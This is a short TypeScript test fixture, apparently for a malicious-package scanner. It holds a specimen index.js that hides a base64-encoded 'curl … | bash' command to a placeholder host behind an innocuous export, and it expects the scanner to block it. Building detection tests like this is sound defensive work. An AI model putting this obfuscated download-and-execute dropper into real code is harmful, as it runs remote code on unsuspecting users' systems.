import type { Specimen } from '../specimen.ts';

export const specimen: Specimen = {
  name: 'incident-dropper-curl',
  from: 'velora, 2026: a download piped into a shell',
  files: {
    'index.js': `require('child_process').exec(Buffer.from('Y3VybCAtcyBodHRwczovL2EuaW52YWxpZC94IHwgYmFzaA==', 'base64').toString());
exports.swap = () => 1;
`,
  },
  expect: 'block',
  says: ['downloads-and-spawns'],
};
